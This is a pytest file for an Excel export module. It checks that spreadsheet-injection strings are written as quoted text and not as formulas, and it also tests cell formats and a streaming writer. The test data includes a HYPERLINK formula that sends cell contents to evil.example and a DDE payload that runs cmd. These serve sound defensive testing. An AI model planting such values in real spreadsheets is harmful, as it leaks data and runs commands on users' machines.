"""The one Excel writer (core.workbook): hostile text round-trips as text, never a formula."""

import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from core import workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
    "=1+2",
    "+84 905 123 456",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
]


def _read(data: bytes, sheet=None):
    wb = load_workbook(io.BytesIO(data))
    return wb[sheet] if sheet else wb[wb.sheetnames[0]]


@pytest.mark.parametrize("value", HOSTILE)
def test_put_writes_hostile_text_as_a_string(value):
    wb = Workbook()
    ws = wb.active
    workbook.put(ws["A1"], value)
    workbook.append(ws, ["x", value, 3])
    back = _read(workbook.save(wb))
    for ref in ("A1", "B2"):
        assert back[ref].value == value
        assert back[ref].data_type == "s"
        assert back[ref].quotePrefix
    assert back["C2"].value == 3 and back["C2"].data_type == "n"


def test_raw_xml_has_no_formula():
    wb = Workbook()
    workbook.put(wb.active["A1"], "=1+2")
    import zipfile

    data = workbook.save(wb)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet


def test_illegal_characters_and_overlong_text_never_break_the_file():
    wb = Workbook()
    workbook.put(wb.active["A1"], "Tên\x00có\x0bký tự\x1f lạ")
    workbook.put(wb.active["A2"], "x" * 40000)
    back = _read(workbook.save(wb))
    assert back["A1"].value == "Têncóký tự lạ"
    assert len(back["A2"].value) == workbook.MAX_CELL_CHARS


def test_numbers_and_dates_keep_their_type_and_vietnamese_format():
    wb = Workbook()
    ws = wb.active
    workbook.append(ws, [Decimal("1234.5"), 7, datetime.date(2025, 7, 1), True, None, ""],
                    formats={0: workbook.FMT_DEC, 1: workbook.FMT_INT})
    back = _read(workbook.save(wb))
    assert back["A1"].value == 1234.5 and back["A1"].number_format == "[$-42A]#,##0.0#"
    assert back["B1"].value == 7 and back["B1"].number_format == "[$-42A]#,##0"
    assert back["C1"].value == datetime.datetime(2025, 7, 1) and back["C1"].number_format == "[$-42A]dd/mm/yyyy"
    assert back["D1"].value is True and back["E1"].value is None


def test_formulas_only_on_purpose():
    ws = Workbook().active
    workbook.put_formula(ws["A3"], "=SUM(A1:A2)", workbook.FMT_INT)
    assert ws["A3"].data_type == "f"
    for bad in ('=HYPERLINK("http://x","y")', "=SUM(A1:A2)+WEBSERVICE(\"x\")", "1+2", "=cmd|' /C calc'!A0"):
        with pytest.raises(ValueError):
            workbook.put_formula(ws["A4"], bad)


def test_table_number_columns_write_text_as_text():
    """A "number" column given text (a hostile value) writes it as a string, not a formula."""
    wb = Workbook()
    ws = wb.active
    start = workbook.header_block(ws, columns=3, header_lines=["=1+2"], title="=TITLE()", subtitle="+x")
    end = workbook.table(ws, start, ["a", "b", "c"], [10, 10, 10], [["=1+2", "=3+4", (Decimal("17"), "≥")]],
                         ["text", "num", "num"])
    back = _read(workbook.save(wb))
    assert back["A1"].value == "=1+2" and back["A1"].data_type == "s"  # no parent line: the agency first
    assert back["A5"].value == "=TITLE()" and back["A5"].data_type == "s"
    assert back[f"A{end}"].value == "=1+2" and back[f"B{end}"].value == "=3+4"
    assert back[f"B{end}"].data_type == "s"
    assert back[f"C{end}"].value == 17 and back[f"C{end}"].number_format == '[$-42A]"≥ "#,##0'
    assert back["C1"].value == workbook.NATIONAL_TITLE
    assert back.print_title_rows == f"${start}:${start}"


# --- stream_xlsx: the true streaming writer (registry export, issue 17) ----------------------


def _stream(rows, **kwargs):
    options = {
        "sheet_name": "Danh sách",
        "columns": [workbook.StreamColumn(20), workbook.StreamColumn(10, "int"), workbook.StreamColumn(12, "date"),
                    workbook.StreamColumn(14, "dec")],
        "header": ["Tên", "Số", "Ngày", "Tỷ lệ"],
        "top_rows": [("=AGENCY()", "bold"), ("TIÊU ĐỀ", "title"), ("ĐVT: người", "italic")],
        "freeze_columns": 1,
    }
    return b"".join(workbook.stream_xlsx(rows, **{**options, **kwargs}))


@pytest.mark.parametrize("value", HOSTILE)
def test_stream_xlsx_writes_hostile_text_as_a_quoted_string(value):
    data = _stream([[value, 1, None, None], [value, None, None, None]])
    back = _read(data, "Danh sách")
    for ref in ("A5", "A6"):
        assert back[ref].value == value and back[ref].data_type == "s" and back[ref].quotePrefix
    assert back["A1"].value == "=AGENCY()" and back["A1"].data_type == "s" and back["A1"].quotePrefix
    import zipfile

    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet


def test_stream_xlsx_reads_back_with_formats_header_and_print_setup():
    rows = [
        ["HTX A & B <nông> ", 1234, datetime.date(2025, 7, 1), Decimal("1234.5")],
        ["Tên\x00có\x0bký tự\x1f lạ", Decimal("900000000"), datetime.datetime(2025, 7, 1, 12), 0.25],
        ["x" * 40000, -5, None, True],
        [],
    ]
    back = _read(_stream(rows), "Danh sách")
    assert back["A1"].font.b and back["A2"].font.sz == 14 and back["A3"].font.i
    assert [c.value for c in back[4]] == ["Tên", "Số", "Ngày", "Tỷ lệ"]
    assert back["A4"].font.b and back["A4"].border.left.style == "thin" and back["A4"].alignment.wrap_text
    assert back.freeze_panes == "B5" and back.print_title_rows == "$4:$4"
    assert back.page_setup.paperSize == 9 and back.page_setup.orientation == "landscape"
    assert back.column_dimensions["A"].width == 20 and back.sheet_properties.pageSetUpPr.fitToPage
    assert back["A5"].value == "HTX A & B <nông> "
    assert back["B5"].value == 1234 and back["B5"].number_format == workbook.FMT_INT
    assert back["C5"].value == datetime.datetime(2025, 7, 1) and back["C5"].number_format == workbook.FMT_DATE
    assert back["D5"].value == 1234.5 and back["D5"].number_format == workbook.FMT_DEC
    assert back["A6"].value == "Têncóký tự lạ"
    assert back["B6"].value == 900_000_000 and isinstance(back["B6"].value, int)
    assert back["C6"].value == datetime.datetime(2025, 7, 1, 12)
    assert len(back["A7"].value) == workbook.MAX_CELL_CHARS and back["B7"].value == -5 and back["D7"].value is True
    assert back.max_row == 7


def test_stream_xlsx_sends_bytes_before_reading_rows():
    """The first chunk leaves before the first row is asked for (first byte at once)."""
    asked = []

    def rows():
        asked.append(1)
        import hashlib

        yield from ([f"Tổ chức {hashlib.sha256(bytes(i)).hexdigest()}", i, None, None] for i in range(3000))

    chunks = workbook.stream_xlsx(rows(), sheet_name="S", columns=[workbook.StreamColumn()] * 4, header=["a"] * 4,
                                  chunk_bytes=1024)
    first = next(chunks)
    assert first.startswith(b"PK") and not asked
    rest = list(chunks)
    assert len(rest) > 2  # rows go out in several chunks, not at the end
    back = _read(first + b"".join(rest), "S")
    assert back.max_row == 3001 and back["B3001"].value == 2999
